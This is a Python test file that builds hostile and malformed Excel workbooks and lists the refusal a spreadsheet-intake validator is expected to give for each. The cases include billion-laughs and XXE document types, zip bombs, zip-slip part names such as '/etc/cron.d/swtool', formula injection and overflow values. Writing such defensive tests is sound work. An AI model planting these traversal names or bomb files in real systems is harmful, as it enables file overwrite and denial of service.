def broken_deflate(tmp, base, member: str = SHEET["Claims"]):
    """A part whose deflate stream cannot be inflated ("Error -3 while decompressing data: invalid block
    type"): the zip directory and the sizes are right, the first byte of the stream says block type 3,
    which does not exist. zlib's own error, not zipfile's BadZipFile, is what a reader meets."""
    p = rezip(base, tmp / "deflate.xlsx")
    data = bytearray(p.read_bytes())
    with zipfile.ZipFile(p) as z:
        info = z.getinfo(member)
    start = (
        info.header_offset
        + 30
        + int.from_bytes(data[info.header_offset + 26 : info.header_offset + 28], "little")
        + int.from_bytes(data[info.header_offset + 28 : info.header_offset + 30], "little")
    )
    data[start] = 0x07  # BFINAL=1, BTYPE=11 (reserved)
    p.write_bytes(bytes(data))
    return p


EXPS = std.EXPENDITURE.headers


def age_1e308(tmp, base):
    """An age of 1e308: a whole number to Python, too big for any integer column (it crashed the typing)."""

    def fn(wb):
        wb["Registrations"].cell(2, REGS.index("Age at registration") + 1).value = 1e308

    return _openpyxl_edit(base, tmp / "age-1e308.xlsx", fn)


def spend_1e308(tmp, base):
    """Actual spend of 1e308 and a budget of -1e308: sums and pence overflow in the money rules."""

    def fn(wb):
        wb["Expenditure"].cell(2, EXPS.index("Actual spend") + 1).value = 1e308
        wb["Expenditure"].cell(2, EXPS.index("Budgeted amount") + 1).value = -1e308

    return _openpyxl_edit(base, tmp / "spend-1e308.xlsx", fn)


# --- the corpus ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[Path, Path], Path]
    reason: str | None = None  # S001's reason, when the file is refused
    words: str = ""  # in the S001 sentence or the note
    structure: tuple[tuple[str, str], ...] = ()  # the exact S findings otherwise: (code, cell or sheet)
    present: tuple[tuple[str, str], ...] = ()  # other findings that must be there
    note: str | None = None
    exit: int = 1
    heavy: bool = False
    env: str | None = None


RELAXED = "max_ratio=100000,max_entry_bytes=400000000,max_total_bytes=400000000"
C = {h: col(CLAIMS, h) for h in CLAIMS}

CASES = [
    # refused before openpyxl opens it
    Case("zero-bytes", zero_bytes, "empty", "The file is empty (0 bytes)"),
    Case("text-renamed", text_renamed, "not-workbook", "not an Excel workbook"),
    Case("pdf-renamed", pdf_renamed, "not-workbook", "This is a PDF"),
    Case("truncated", truncated, "damaged", "cut short"),
    Case("xls-renamed", xls_renamed, "xls", "old-style Excel file (.xls)"),
    Case("xlsm", xlsm, "macros", "contains macros (.xlsm)"),
    Case("vba-part-in-xlsx", vba_in_xlsx, "macros", "contains macros (.xlsm)"),
    Case("macro-content-type", macro_content_type, "macros", "contains macros (.xlsm)"),
    Case("encrypted", encrypted, "encrypted", "password-protected"),
    Case("bare-cfb-header", bare_cfb_header, "not-workbook", "holds no Excel workbook, or a damaged one"),
    Case("billion-laughs-sheet", laughs_in_sheet, "dtd", "document type declaration (xl/worksheets/sheet3.xml)"),
    Case("billion-laughs-workbook", laughs_in_workbook, "dtd", "document type declaration (xl/workbook.xml)"),
    Case(
        "billion-laughs-shared-strings",
        laughs_in_shared_strings,
        "dtd",
        "document type declaration (xl/sharedStrings.xml)",
    ),
    Case(
        "billion-laughs-behind-long-comment",
        laughs_behind_long_comment,
        "dtd",
        "document type declaration (xl/worksheets/sheet3.xml)",
        heavy=True,
    ),
    Case("doctype-behind-comment", doctype_behind_comment, "dtd", "document type declaration (xl/workbook.xml)"),
    Case("quadratic-blowup", quadratic_blowup, "dtd", "document type declaration (xl/sharedStrings.xml)", heavy=True),
    Case("xxe-local-file", xxe_local_file, "dtd", "document type declaration"),
    Case("external-dtd", external_dtd, "dtd", "document type declaration (xl/workbook.xml)"),
    Case("malformed-workbook-xml", malformed_workbook_xml, "damaged", "damaged and cannot be opened"),
    Case("malformed-shared-strings", malformed_shared_strings, "damaged", "damaged and cannot be opened"),
    Case("malformed-sheet-xml", malformed_sheet_xml, "damaged", "The workbook is damaged and cannot be opened"),
    Case("missing-workbook-part", missing_workbook_part, "damaged", "it has no workbook part"),
    Case("docx-renamed", docx_renamed, "word", "Word document"),
    Case("ods-renamed", ods_renamed, "ods", "OpenDocument spreadsheet (.ods)"),
    Case("strict-ooxml", strict_ooxml, "strict", "Strict Open XML"),
    Case("zip-slip-dotdot", zip_slip_dotdot, "zip-names", "a part with an unsafe name ('../x')"),
    Case("zip-slip-absolute", zip_slip_absolute, "zip-names", "unsafe name ('/etc/cron.d/swtool')"),
    Case("zip-slip-backslash", zip_slip_backslash, "zip-names", "unsafe name"),
    Case(
        "20000-entries",
        many_entries,
        "zip-limits",
        "20,014 parts inside it, over the limit of 1,000 (limit max_entries)",
        heavy=True,
    ),
    Case(
        "over-file-size", rezipped, "too-large", "limit for a return (limit max_file_bytes)", env="max_file_bytes=2000"
    ),
    Case(
        "entries-over-the-limit",
        rezipped,
        "zip-limits",
        "14 parts inside it, over the limit of 12 (limit max_entries)",
        env="max_entries=12",
    ),
    Case(
        "ratio-over-the-limit",
        over_ratio,
        "zip-limits",
        "(xl/media/image1.bin) is compressed",
        env="ratio_floor=10000,max_ratio=50",
    ),
    Case(
        "part-over-the-limit",
        oversized_part,
        "zip-limits",
        "(xl/media/pad.bin) unpacks to 3 MB, over the 2 MB limit (limit max_entry_bytes)",
        env="max_entry_bytes=2097152,max_ratio=10000",
    ),
    Case("zip-bomb-sheet", zip_bomb_sheet, "zip-limits", "(xl/worksheets/sheet3.xml) is compressed", heavy=True),
    Case(
        "zip-bomb-shared-strings",
        zip_bomb_shared_strings,
        "zip-limits",
        "(xl/sharedStrings.xml) is compressed",
        heavy=True,
    ),
    Case("headers-lie-small", lying_sizes_small, "damaged", "cut short", heavy=True),
    Case(
        "headers-lie-large",
        lying_sizes_large,
        "zip-limits",
        "unpacks to 3072 MB, over the 100 MB limit (limit max_entry_bytes)",
    ),
    Case(
        "reader-time-limit",
        reader_time_limit,
        "time-limit",
        "could not be read within 0.5 seconds (limit read_seconds)",
        heavy=True,
        env=RELAXED + ",read_seconds=0.5",  # the file takes many seconds to read: a short limit trips as surely
    ),
    Case(
        "reader-memory-limit",
        reader_memory_limit,
        "memory-limit",
        "within 100 MB of memory (limit read_memory_mb)",
        heavy=True,
        env=RELAXED + ",max_text_chars=1000000000,read_memory_mb=100",
    ),
    Case("shared-string-amplifier", shared_string_amplifier, "too-much-text", "(limit max_text_chars)", heavy=True),
    Case(
        "invalid-sheet-name", invalid_sheet_name, "sheet-names", "a sheet named 'Q2/2026', which Excel does not allow"
    ),
    Case("blank-sheet-name", blank_sheet_name, "sheet-names", "a sheet named ' ', which Excel does not allow"),
    Case("duplicate-sheet-names", duplicate_sheet_names, "duplicate-sheets", "two sheets named 'Claims' and 'CLAIMS'"),
    Case(
        "duplicate-sheet-names-exact",
        duplicate_sheet_names_exact,
        "duplicate-sheets",
        "two sheets named 'Claims' and 'Claims'",
    ),
    Case("all-sheets-hidden", all_sheets_hidden, "no-sheets", "Every sheet of the workbook is hidden"),
    # open, and read as what they are
    Case(
        "embedded-ole-activex",
        embedded_ole_activex,
        note="embedded objects or ActiveX controls; they are ignored",
        exit=0,
    ),
    Case("external-link", external_link, note="links to other files; the links are ignored", exit=0),
    Case("lying-dimension", lying_dimension, exit=0, heavy=True),
    Case(
        "stray-cell-XFD1048576",
        stray_far_cell,
        exit=0,
        heavy=True,
        note="Sheet 'Claims': reading stopped after 1,000 blank rows at row 1,002 (limit blank_row_stop)",
    ),
    Case(
        "16384-columns",
        wide_row,
        heavy=True,
        exit=0,  # read up to max_columns (200): one S008 each past Y
        note="Sheet 'Claims': columns after GR were not read (limit max_columns, 200 columns)",
        structure=tuple(("S008", f"Claims!{column_letter(j)}1") for j in range(len(CLAIMS) + 1, 201)),
    ),
    # the formula's cell is S009 (a warning: re-save in Excel) and only S009: C205 does not also call it empty
    Case(
        "formula-without-cached-value",
        formula_without_value,
        structure=(("S009", f"Claims!{C['Weekly hours']}2"),),
        exit=0,
    ),
    Case("formula-with-forged-cached-value", formula_forged_value, structure=(("S004", f"Claims!{C['Output']}2"),)),
    Case("formula-injection-text", formula_injection_text, structure=(("S004", f"Claims!{C['Output']}2"),)),
    Case(
        "dates-every-form",
        dates_every_form,
        structure=tuple(
            [("S004", f"Milestones!C{r}") for r in (6, 7, 8, 10, 11)]
            + [("S007", f"Milestones!C{r}") for r in (3, 4, 5)]
        ),
    ),
    Case("dates-1904-system", dates_1904, exit=0),
    Case("merged-two-row-header", merged_two_row_header, exit=0),
    Case("merged-two-row-header-names-above", merged_two_row_header_late, exit=0),
    Case("header-not-in-row-1", header_not_in_row_1, exit=0),
    Case("hidden-and-very-hidden-sheets", hidden_sheets, structure=(("S002", "Claims"),)),
    Case("hidden-rows", hidden_rows, structure=(("S004", f"Claims!{C['Output']}3"),)),
    Case(
        "duplicate-and-blank-headers",
        duplicate_and_blank_headers,
        exit=0,
        structure=(
            ("S008", f"Claims!{column_letter(len(CLAIMS) + 1)}1"),
            ("S008", f"Claims!{column_letter(len(CLAIMS) + 2)}1"),
        ),
    ),
    Case("nbsp-zero-width-bom-in-headers", invisible_characters_in_headers, exit=0),
    Case("cyrillic-postcode", cyrillic_postcode, present=(("R101", f"Registrations!{col(REGS, 'Postcode')}2"),)),
    Case("lookalike-client-ref", lookalike_client_ref, structure=(("S004", f"Claims!{C['Client ref']}2"),)),
    Case("fullwidth-client-ref", fullwidth_client_ref, exit=0, structure=(("S007", f"Claims!{C['Client ref']}2"),)),
    Case(
        "megabyte-cell",
        megabyte_cell,
        exit=0,
        heavy=True,
        note="Sheet 'Narrative': 1 cell was cut to 32,767 characters (limit max_text)",
    ),
    Case("control-characters-and-markup", control_and_markup, structure=(("S004", f"Claims!{C['Output']}2"),)),
    Case("deep-xml-nesting", deep_nesting, exit=0, heavy=True),
    # one file must never stop a batch (tests/hostile/test_batches.py puts these among good returns)
    Case("broken-deflate-stream", broken_deflate, "damaged", "a part inside it cannot be unpacked"),
    Case("age-1e308", age_1e308, structure=(("S004", f"Registrations!{col(REGS, 'Age at registration')}2"),)),
    Case(
        "spend-1e308",
        spend_1e308,
        structure=(
            ("S004", f"Expenditure!{col(EXPS, 'Actual spend')}2"),
            ("S004", f"Expenditure!{col(EXPS, 'Budgeted amount')}2"),
        ),
    ),
]
